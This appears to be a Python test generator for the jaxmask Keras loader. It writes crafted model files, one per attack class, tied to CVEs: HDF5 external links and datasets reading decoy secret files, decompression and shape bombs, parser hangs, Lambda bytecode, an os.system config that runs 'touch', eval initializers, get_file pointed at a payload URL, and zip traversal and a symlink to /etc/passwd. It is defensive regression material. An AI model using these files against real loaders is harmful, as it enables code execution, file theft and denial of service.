"""Crafted Keras files, one per attack class, that ``jaxmask.keras_io`` must refuse.

Each file is a working model file (a small Masking -> LSTM -> Dense model, the same as ``benign.keras``) with
exactly one attack added, so a refusal can only come from the attack. Needs numpy and h5py only (no Keras).

Usage::

    python -m tests.adversarial.make OUTDIR        # writes every file and prints the catalogue

The decoy targets the attacks point at (``secret.txt``, ``secret_target.h5``) are written next to the files;
the Lambda payloads would create ``PWNED_MARKER`` in OUTDIR if anything ever executed them.
"""

from __future__ import annotations

import base64
import copy
import dataclasses
import io
import json
import marshal
import os
import sys
import warnings
import zipfile
import zlib

import h5py
import numpy as np

PWNED_MARKER = "PWNED_MARKER"
T, F, H = 4, 3, 2  # the benign model: Input(T, F) -> Masking -> LSTM(H) -> Dense(1)


@dataclasses.dataclass(frozen=True)
class Attack:
    """One crafted file: ``entry`` is "model" (``load_model``) or "weights" (``load_weights`` into the benign
    model); ``match`` is a regex the refusal message must contain; ``ref`` the upstream advisory class."""

    file: str
    entry: str
    match: str
    what: str
    ref: str
    hangs_unguarded: bool = False  # without the guard this file hangs libhdf5: test it in a subprocess only


# ----------------------------------------------------------------------------------------------------------
# The benign model in Keras 3 (.keras, .weights.h5) and legacy (.h5) layouts.
# ----------------------------------------------------------------------------------------------------------

_DTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def _layer(cls, config, input_shape=None):
    entry = {"module": "keras.layers", "class_name": cls, "config": {"name": cls.lower(), "trainable": True,
                                                                       "dtype": copy.deepcopy(_DTYPE), **config},
             "registered_name": None}
    if input_shape is not None:
        entry["build_config"] = {"input_shape": input_shape}
    return entry


def benign_layers():
    """Keras 3 config entries of the benign model."""
    return [
        {"module": "keras.layers", "class_name": "InputLayer",
         "config": {"batch_shape": [None, T, F], "dtype": "float32", "sparse": False, "ragged": False,
                    "name": "input_layer", "optional": False}, "registered_name": None},
        _layer("Masking", {"mask_value": 0.0}),
        _layer("LSTM", {"units": H, "activation": "tanh", "recurrent_activation": "sigmoid", "use_bias": True,
                        "return_sequences": False, "return_state": False, "go_backwards": False,
                        "stateful": False, "unroll": False, "zero_output_for_mask": False,
                        "unit_forget_bias": True, "dropout": 0.0, "recurrent_dropout": 0.0, "seed": None},
               [None, T, F]),
        _layer("Dense", {"units": 1, "activation": "sigmoid", "use_bias": True}, [None, H]),
    ]


def benign_config(layers=None):
    """The Keras 3 ``config.json`` of the benign model (or of ``layers``)."""
    return {"module": "keras", "class_name": "Sequential",
            "config": {"name": "sequential", "trainable": True, "dtype": copy.deepcopy(_DTYPE),
                       "layers": benign_layers() if layers is None else layers},
            "registered_name": None, "build_config": {"input_shape": [None, T, F]}}


def benign_weights():
    """Deterministic weights of the benign model, Keras order: lstm kernel, recurrent_kernel, bias; dense
    kernel, bias."""
    rng = np.random.default_rng(1234)
    return [rng.uniform(-0.5, 0.5, s).astype(np.float32) for s in ((F, 4 * H), (H, 4 * H), (4 * H,), (H, 1), (1,))]


def h5_image(build) -> bytes:
    """Bytes of an HDF5 file written in memory by ``build(f)``."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        build(f)
    return buf.getvalue()


def write_keras3_weights(f, weights=None, skip=()):
    """The Keras 3 ``model.weights.h5`` layout of the benign model into ``f``; datasets in ``skip`` are left
    for the caller to plant."""
    w = benign_weights() if weights is None else weights
    f.create_group("vars").attrs["name"] = "sequential"
    f.create_group("layers/masking/vars").attrs["name"] = "masking"
    f.create_group("layers/lstm/vars").attrs["name"] = "lstm"
    f.create_group("layers/lstm/cell/vars").attrs["name"] = "lstm_cell"
    f.create_group("layers/dense/vars").attrs["name"] = "dense"
    paths = ["layers/lstm/cell/vars/0", "layers/lstm/cell/vars/1", "layers/lstm/cell/vars/2",
             "layers/dense/vars/0", "layers/dense/vars/1"]
    for path, value in zip(paths, w):
        if path not in skip:
            f[path] = value


def keras_archive(config=None, weights_h5=None, extra=(), metadata=None) -> bytes:
    """A ``.keras`` zip: config.json, model.weights.h5, metadata.json, plus ``extra`` (ZipInfo, bytes) members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        meta = metadata or {"keras_version": "3.15.1", "date_saved": "crafted"}
        z.writestr(_zip_info("metadata.json"), json.dumps(meta))
        text = config if isinstance(config, str) else json.dumps(config or benign_config())
        z.writestr(_zip_info("config.json"), text)
        z.writestr(_zip_info("model.weights.h5"),
                   weights_h5 if weights_h5 is not None else h5_image(write_keras3_weights))
        for info, data in extra:
            z.writestr(info, data)
    return buf.getvalue()


def _legacy_config(layers):
    return json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}})


def legacy_layers():
    """tf_keras-style (Keras 2) model_config layers of the benign model."""
    return [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, T, F], "dtype": "float32",
                                                "sparse": False, "ragged": False, "name": "input_1"}},
        {"class_name": "Masking", "config": {"name": "masking", "trainable": True, "dtype": "float32",
                                             "mask_value": 0.0}},
        {"class_name": "LSTM", "config": {"name": "lstm", "trainable": True, "dtype": "float32", "units": H,
                                          "return_sequences": False, "activation": "tanh",
                                          "recurrent_activation": "sigmoid", "use_bias": True,
                                          "implementation": 2, "time_major": False}},
        {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "dtype": "float32", "units": 1,
                                           "activation": "sigmoid", "use_bias": True}},
    ]


def legacy_h5(layers=None) -> bytes:
    """A legacy full-model ``.h5`` (tf_keras ``model.save("m.h5")`` layout) of the benign model."""
    w = benign_weights()

    def build(f):
        f.attrs["keras_version"] = "2.21.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = _legacy_config(legacy_layers() if layers is None else layers)
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = np.array([b"masking", b"lstm", b"dense"])
        mw.create_group("masking").attrs["weight_names"] = np.array([], dtype=np.float64)
        names = {"lstm": ["lstm/lstm_cell/kernel:0", "lstm/lstm_cell/recurrent_kernel:0", "lstm/lstm_cell/bias:0"],
                 "dense": ["dense/kernel:0", "dense/bias:0"]}
        for layer, values in (("lstm", w[:3]), ("dense", w[3:])):
            g = mw.create_group(layer)
            g.attrs["weight_names"] = np.array([n.encode() for n in names[layer]])
            for n, v in zip(names[layer], values):
                g[n] = v

    return h5_image(build)


# ----------------------------------------------------------------------------------------------------------
# The attacks.
# ----------------------------------------------------------------------------------------------------------

LSTM_KERNEL = "layers/lstm/cell/vars/0"


def _planted(plant):
    """Benign Keras 3 weights with the LSTM kernel replaced by whatever ``plant(f, path)`` creates."""
    def build(f):
        write_keras3_weights(f, skip=(LSTM_KERNEL,))
        plant(f, LSTM_KERNEL)
    return h5_image(build)


def _lambda_code(outdir: str) -> str:
    """Base64 marshalled bytecode of a function that would create PWNED_MARKER (never executed here)."""
    marker = os.path.join(outdir, PWNED_MARKER)
    source = f"def f(x):\n    open({marker!r}, 'w').write('executed')\n    return x\n"
    code = compile(source, "<crafted>", "exec").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _with_layer(entry, at=2):
    layers = benign_layers()
    layers.insert(at, entry)
    return benign_config(layers)


def _zip_info(name, mode=None):
    info = zipfile.ZipInfo(name)
    if mode is not None:
        info.external_attr = mode << 16
        info.create_system = 3
    return info


def _zip_bomb(size=128 * 2**20) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", "{}")
        z.writestr("config.json", json.dumps(benign_config()))
        info = zipfile.ZipInfo("model.weights.h5")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as member:
            chunk = bytes(2**20)
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return buf.getvalue()


def _deflate_bomb(f, path, size=256 * 2**20):
    """A deflate-filtered dataset of the LSTM kernel's shape (96 bytes) whose one chunk (1 MiB: chunks may exceed
    a resizable dataset) is a 260 KB stream that inflates to ``size`` bytes: HDF5's deflate filter grows its
    buffer until the stream ends."""
    ds = f.create_dataset(path, shape=(F, 4 * H), maxshape=(None, None), dtype="f4", chunks=(4096, 64),
                          compression="gzip")
    z = zlib.compressobj(6)
    chunk = bytes(2**20)
    stream = b"".join(z.compress(chunk) for _ in range(size // len(chunk))) + z.flush()
    ds.id.write_direct_chunk((0, 0), stream)


def _global_heap_loop() -> bytes:
    """The benign legacy .h5 with the size of its global heap's free-space object set to 0: libhdf5 1.14.6 then
    loops forever in H5HG__cache_heap_deserialize as soon as a variable-length string (model_config) is read."""
    data = bytearray(legacy_h5())
    pos = data.find(b"GCOL\x01")
    end = pos + int.from_bytes(data[pos + 8 : pos + 16], "little")
    p = pos + 16
    while p + 16 <= end:
        index, size = int.from_bytes(data[p : p + 2], "little"), int.from_bytes(data[p + 8 : p + 16], "little")
        if index == 0:
            data[p + 8 : p + 16] = bytes(8)
            return bytes(data)
        p += 16 + -(-size // 8) * 8
    raise AssertionError("the legacy file has no free space in its global heap")


def _vlen_length_bomb() -> bytes:
    """The benign legacy .h5 with the variable-length descriptor of its keras_version attribute (length 6,
    global heap object 1) claiming 4 GiB - 16 bytes: unguarded, libhdf5 allocates and zeroes that much before
    it finds the heap object is 6 bytes long."""
    data = bytearray(legacy_h5())
    heap = data.find(b"GCOL\x01")
    descriptor = (6).to_bytes(4, "little") + heap.to_bytes(8, "little") + (1).to_bytes(4, "little")
    at = data.find(descriptor)
    if at < 0 or data.find(descriptor, at + 1) >= 0:
        raise AssertionError("keras_version's descriptor is not unique in the legacy file")
    data[at : at + 4] = (2**32 - 16).to_bytes(4, "little")
    return bytes(data)


def _many_members(n=10_000) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("config.json", json.dumps(benign_config()))
        z.writestr("model.weights.h5", h5_image(write_keras3_weights))
        for i in range(n):
            z.writestr(f"assets/{i}", b"")
    return buf.getvalue()


def _duplicate_member() -> bytes:
    evil = _with_layer({"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l"}})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("config.json", json.dumps(benign_config()))
        z.writestr("model.weights.h5", h5_image(write_keras3_weights))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point of this file
            z.writestr(zipfile.ZipInfo("config.json"), json.dumps(evil))
    return buf.getvalue()


def _cycle(f):
    write_keras3_weights(f)
    f["layers/lstm/cell/loop"] = f["layers"]  # a hard link from a group to its ancestor


def _matching_shape_bomb(outdir):
    """Config Dense(1024 -> 262144): 2**28 float32 (1 GiB) weights, declared but never stored."""
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer",
         "config": {"batch_shape": [None, 1024], "dtype": "float32", "name": "input_layer"}, "registered_name": None},
        _layer("Dense", {"units": 262144, "activation": "linear", "use_bias": False}, [None, 1024]),
    ]
    cfg = benign_config(layers)
    cfg["build_config"] = {"input_shape": [None, 1024]}

    def build(f):
        f.create_group("vars")
        f.create_group("layers/dense/vars").create_dataset("0", shape=(1024, 262144), dtype="f4", chunks=(1024, 1024))

    return keras_archive(cfg, h5_image(build))


def attacks(outdir: str) -> dict[str, tuple[Attack, object]]:
    """Every crafted file: name -> (Attack, a function returning its bytes). Cheap: nothing is built until the
    function is called. The files point at decoys in ``outdir`` (see ``write_all``)."""
    secret = os.path.join(outdir, "secret.txt")
    target = os.path.join(outdir, "secret_target.h5")
    lam = _lambda_code(outdir)
    A = Attack
    out = {}

    def add(attack, build):
        out[attack.file] = (attack, build)

    add(A("h5_external_link.keras", "model", "external link", "HDF5 ExternalLink in place of a weight",
          "CVE-2026-1669 class; keras PRs #22899/#22900"),
        lambda: keras_archive(weights_h5=_planted(lambda f, p: f.__setitem__(p, h5py.ExternalLink(target, "/data")))))
    add(A("h5_soft_link.keras", "model", "soft link", "HDF5 SoftLink aliasing another weight", "keras PR #22900"),
        lambda: keras_archive(weights_h5=_planted(
            lambda f, p: f.__setitem__(p, h5py.SoftLink("/layers/dense/vars/0")))))
    add(A("h5_external_dataset.weights.h5", "weights", "external file", "dataset stored in another file",
          "CVE-2026-1669 (tf-keras PR #921)"),
        lambda: _planted(lambda f, p: f.create_dataset(p, shape=(F, 4 * H), dtype="f4", external=[(secret, 0, 96)])))
    add(A("h5_external_dataset.keras", "model", "external file", "dataset stored in another file, in an archive",
          "CVE-2026-1669"),
        lambda: keras_archive(weights_h5=_planted(
            lambda f, p: f.create_dataset(p, shape=(F, 4 * H), dtype="f4", external=[(secret, 0, 96)]))))

    def vds(f, p):
        layout = h5py.VirtualLayout(shape=(F, 4 * H), dtype="f4")
        layout[:] = h5py.VirtualSource(target, "/data", shape=(F, 4 * H))
        f.create_virtual_dataset(p, layout, fillvalue=0)

    add(A("h5_virtual_dataset.keras", "model", "virtual dataset", "virtual dataset reading another file",
          "keras PR #22976"), lambda: keras_archive(weights_h5=_planted(vds)))
    add(A("h5_vlen_dtype.weights.h5", "weights", "variable-length type", "variable-length (vlen) float weight",
          "non-numeric dtype"),
        lambda: _planted(lambda f, p: f.create_dataset(p, shape=(F,), dtype=h5py.vlen_dtype(np.float32))))
    add(A("h5_object_dtype.keras", "model", "reference", "object-reference dtype weight", "non-numeric dtype"),
        lambda: keras_archive(weights_h5=_planted(
            lambda f, p: f.create_dataset(p, data=[f.ref] * F, dtype=h5py.ref_dtype))))
    add(A("h5_string_dtype.weights.h5", "weights", "string type", "string weight", "non-numeric dtype"),
        lambda: _planted(lambda f, p: f.create_dataset(p, data=np.array([b"x" * 8] * F))))
    add(A("h5_compound_dtype.weights.h5", "weights", "compound type", "compound (struct) weight",
          "non-numeric dtype"),
        lambda: _planted(lambda f, p: f.create_dataset(p, shape=(F, 4 * H), dtype=[("a", "f4"), ("b", "i8")])))
    add(A("h5_shape_bomb.keras", "model", "4 TiB", "dataset declaring 4 TiB in a few KB",
          "CVE-2026-0897 (keras PRs #21880, #22975)"),
        lambda: keras_archive(weights_h5=_planted(lambda f, p: f.create_dataset(p, shape=(2**40,), dtype="f4",
                                                                        chunks=(2**16,)))))
    add(A("h5_shape_bomb_4tib.weights.h5", "weights", "4 TiB", "a lone dataset declaring 4 TiB",
          "CVE-2026-0897 class"),
        lambda: h5_image(lambda f: f.create_dataset(LSTM_KERNEL, shape=(2**40,), dtype="f4", chunks=(2**16,))))
    add(A("h5_shape_bomb_matching_config.keras", "model", "stores only", "1 GiB weight that matches the config "
          "but is never stored (fill-value bomb)", "CVE-2026-0897 class"), lambda: _matching_shape_bomb(outdir))
    add(A("h5_hardlink_cycle.weights.h5", "weights", "deeper than", "hard-link cycle between groups",
          "HDF5 traversal DoS"), lambda: h5_image(_cycle))
    add(A("h5_unknown_filter.weights.h5", "weights", "filter 32004", "weight compressed with a filter HDF5 would "
          "load a plugin for", "HDF5 plugin loading"),
        lambda: _planted(lambda f, p: f.create_dataset(p, data=benign_weights()[0], chunks=(F, 4 * H),
                                                       compression=32004, allow_unknown_filter=True)))
    add(A("h5_deflate_bomb.weights.h5", "weights", "filter 1", "a 96-byte weight whose compressed chunk inflates "
          "to 256 MiB", "decompression bomb inside HDF5"), lambda: _planted(_deflate_bomb))
    add(A("legacy_global_heap_loop.h5", "model", "global heap collection", "legacy .h5 whose global heap has a "
          "zero-size free-space object (libhdf5 1.14.6 loops forever reading model_config)",
          "found by fuzz/fuzz_keras_io.py; HDF5 parser DoS", hangs_unguarded=True), _global_heap_loop)
    add(A("legacy_vlen_length_bomb.h5", "model", "variable-length text of 4 GiB", "legacy .h5 whose keras_version "
          "descriptor claims 4 GiB (libhdf5 allocates and zeroes it before reading)",
          "found by fuzz/fuzz_keras_io.py; HDF5 allocation DoS", hangs_unguarded=True), _vlen_length_bomb)
    add(A("legacy_lambda.h5", "model", "Lambda", "legacy .h5 whose model_config holds a Lambda with bytecode",
          "CVE-2024-3660, CVE-2025-9905"),
        lambda: legacy_h5(legacy_layers()[:2] + [{"class_name": "Lambda", "config": {
            "name": "lambda", "function": [lam, None, None], "function_type": "lambda", "module": "__main__",
            "output_shape": None, "arguments": {}}}] + legacy_layers()[2:]))
    add(A("config_lambda.keras", "model", "Lambda", "Keras 3 Lambda layer with marshalled bytecode",
          "CVE-2024-3660"),
        lambda: keras_archive(_with_layer({"module": "keras.layers", "class_name": "Lambda", "config": {
            "name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": lam, "defaults": None,
                                                                                   "closure": None}}},
            "registered_name": None})))
    add(A("config_module_os_system.keras", "model", "module 'os'", 'a layer {"module": "os", "class_name": '
          '"system"}', "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp)"),
        lambda: keras_archive(_with_layer({"module": "os", "class_name": "system",
                                   "config": {"command": f"touch {os.path.join(outdir, PWNED_MARKER)}"},
                                   "registered_name": "system"})))
    add(A("config_builtins_eval_initializer.keras", "model", "module 'builtins'", "an initializer naming "
          "builtins.eval", "CVE-2025-1550 class"),
        lambda: keras_archive(benign_config(benign_layers()[:2] + [dict(benign_layers()[2], config=dict(
            benign_layers()[2]["config"], kernel_initializer={
                "module": "builtins", "class_name": "eval", "config": {"source": "__import__('os')"},
                "registered_name": "eval"}))] + benign_layers()[3:])))
    add(A("config_get_file.keras", "model", "module 'keras.utils'", "config calling keras.utils.get_file",
          "CVE-2025-8747"),
        lambda: keras_archive(_with_layer({"module": "keras.utils", "class_name": "get_file", "config": {
            "origin": "http://127.0.0.1:9/payload", "fname": "payload"}, "registered_name": "get_file"})))
    add(A("config_enable_unsafe.keras", "model", "module 'keras.config'", "config calling "
          "keras.config.enable_unsafe_deserialization", "CVE-2025-9906"),
        lambda: keras_archive(_with_layer({"module": "keras.config", "class_name": "enable_unsafe_deserialization",
                                   "config": {}, "registered_name": "enable_unsafe_deserialization"})))
    add(A("config_string_lookup.keras", "model", "StringLookup", "StringLookup naming a vocabulary file",
          "CVE-2025-12058"),
        lambda: keras_archive(_with_layer({"module": "keras.layers", "class_name": "StringLookup", "config": {
            "name": "lookup", "vocabulary": secret}, "registered_name": None}, at=1)))
    add(A("config_custom_registered.keras", "model", "registered_name", "a Dense registered as a custom object",
          "custom objects are code"),
        lambda: keras_archive(benign_config(
            benign_layers()[:3] + [dict(benign_layers()[3], registered_name="Custom>Evil")])))
    add(A("config_function_activation.keras", "model", "function-valued", "activation given as a function "
          "from __main__", "function-valued fields"),
        lambda: keras_archive(benign_config(benign_layers()[:3] + [dict(benign_layers()[3], config=dict(
            benign_layers()[3]["config"], activation={"module": "__main__", "class_name": "function",
                                                     "config": "evil", "registered_name": "function"}))])))
    add(A("config_json_depth.keras", "model", "nested too deeply|deeper than", "config.json nested 100,000 "
          "levels", "parser DoS"), lambda: keras_archive("[" * 100_000 + "]" * 100_000))
    add(A("zip_path_traversal.keras", "model", r"'\.\.'", "member ../../jaxmask_traversal.txt",
          "keras #23055 (zip traversal)"),
        lambda: keras_archive(extra=[(_zip_info("../../jaxmask_traversal.txt"), b"x")]))
    add(A("zip_absolute_path.keras", "model", "absolute path", "member /tmp/jaxmask_absolute.txt",
          "keras #23055"), lambda: keras_archive(extra=[(_zip_info("/tmp/jaxmask_absolute.txt"), b"x")]))
    add(A("zip_symlink.keras", "model", "symbolic link", "member assets/passwd, a symlink to /etc/passwd",
          "keras #23055"), lambda: keras_archive(extra=[(_zip_info("assets/passwd", 0o120777), b"/etc/passwd")]))
    add(A("zip_bomb.keras", "model", "decompression bomb", "model.weights.h5 inflating 128 MiB of zeros",
          "keras #23055 (decompression bomb)"), lambda: _zip_bomb())
    add(A("zip_too_many_members.keras", "model", "members, over the limit", "10,000 members",
          "zip DoS"), lambda: _many_members())
    add(A("zip_duplicate_member.keras", "model", "appears twice", "two config.json members, the second with a "
          "Lambda", "zip parser confusion"), lambda: _duplicate_member())
    add(A("not_a_model.keras", "model", "neither", "random bytes", "malformed input"),
        lambda: np.random.default_rng(0).bytes(4096))
    _graph_attacks(add, A)
    return out


def _tensor(layer, node=0, index=0, shape=(None, T, F)):
    return {"class_name": "__keras_tensor__", "config": {"shape": list(shape), "dtype": "float32",
                                                         "keras_history": [layer, node, index]}}


def _graph_config(edges, output=("dense_b", 0, 0), extra_nodes=None):
    """A functional config: an InputLayer ``inp`` and Dense layers ``name -> inbound refs`` (Keras 3 format)."""
    layers = [{"module": "keras.layers", "class_name": "InputLayer", "name": "inp", "inbound_nodes": [],
               "config": {"batch_shape": [None, T, F], "dtype": "float32", "sparse": False, "ragged": False,
                          "name": "inp", "optional": False}, "registered_name": None}]
    for name, refs in edges.items():
        entry = _layer("Dense", {"units": F, "activation": "linear", "use_bias": True})
        entry["config"]["name"] = entry["name"] = name
        entry["inbound_nodes"] = extra_nodes if (extra_nodes is not None and name == "dense_a") else [
            {"args": [_tensor(*r) for r in refs], "kwargs": {}}]
        layers.append(entry)
    return {"module": "keras", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "crafted", "trainable": True, "layers": layers,
                       "input_layers": ["inp", 0, 0], "output_layers": list(output)}}


def _graph_weights(names):
    def build(f):
        f.create_group("vars")
        for i, name in enumerate(names):
            path = "layers/dense" + (f"_{i}" if i else "")
            f[f"{path}/vars/0"] = np.zeros((F, F), np.float32)
            f[f"{path}/vars/1"] = np.zeros((F,), np.float32)
    return h5_image(build)


def _graph_attacks(add, A):
    """Crafted functional graphs: each refused before anything is built or read."""
    two = ["dense_a", "dense_b"]
    add(A("graph_cycle.keras", "model", "never computed", "dense_a reads dense_b, dense_b reads dense_a",
          "graph cycle"),
        lambda: keras_archive(_graph_config({"dense_a": [("dense_b",)], "dense_b": [("dense_a",)]}),
                              _graph_weights(two)))
    add(A("graph_missing_layer.keras", "model", "not a layer of the model", "a node reading a layer that does "
          "not exist", "dangling reference"),
        lambda: keras_archive(_graph_config({"dense_a": [("inp",)], "dense_b": [("ghost",)]}), _graph_weights(two)))
    add(A("graph_self_input.keras", "model", "never computed", "a layer called on its own output", "graph cycle"),
        lambda: keras_archive(_graph_config({"dense_a": [("inp",)], "dense_b": [("dense_b",)]}),
                              _graph_weights(two)))
    add(A("graph_output_index_out_of_range.keras", "model", "output 5 of 'dense_a', which has 1 outputs",
          "a reference to the 6th output of a one-output layer", "index out of range"),
        lambda: keras_archive(_graph_config({"dense_a": [("inp",)], "dense_b": [("dense_a", 0, 5)]}),
                              _graph_weights(two)))
    add(A("graph_node_index_out_of_range.keras", "model", "call 3 of 'dense_a'",
          "a reference to the 4th call of a layer called once", "index out of range"),
        lambda: keras_archive(_graph_config({"dense_a": [("inp",)], "dense_b": [("dense_a", 3, 0)]}),
                              _graph_weights(two)))
    add(A("graph_million_nodes.keras", "model", "over the limit", "one layer with 10^6 inbound nodes",
          "resource exhaustion"),
        lambda: keras_archive(_graph_config({"dense_a": [("inp",)], "dense_b": [("dense_a",)]},
                                            extra_nodes=[{}] * 10**6), _graph_weights(two)))


def catalogue() -> list[Attack]:
    """The attacks, without building any file."""
    return [attack for attack, _ in attacks(os.path.join(os.sep, "nonexistent")).values()]


def write_all(outdir: str) -> dict[str, Attack]:
    """Write the decoys, the benign controls and every attack file to ``outdir``; return the catalogue."""
    os.makedirs(outdir, exist_ok=True)
    with open(os.path.join(outdir, "secret.txt"), "wb") as f:
        f.write(b"SECRET " * 64)
    with h5py.File(os.path.join(outdir, "secret_target.h5"), "w") as f:
        f["data"] = np.full((F, 4 * H), 7.0, np.float32)
    benign = {"benign.keras": keras_archive(), "benign_legacy.h5": legacy_h5(),
              "benign.weights.h5": h5_image(write_keras3_weights)}
    for name, data in benign.items():
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)
    catalogue = {}
    for name, (attack, build) in attacks(outdir).items():
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(build())
        catalogue[name] = attack
    return catalogue


def main(argv=None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if len(argv) != 1:
        print(__doc__)
        return 2
    for name, a in write_all(argv[0]).items():
        size = os.path.getsize(os.path.join(argv[0], name))
        print(f"{name:42s} {size:>10d} B  {a.entry:7s}  {a.what}  [{a.ref}]")
    return 0


if __name__ == "__main__":
    sys.exit(main())
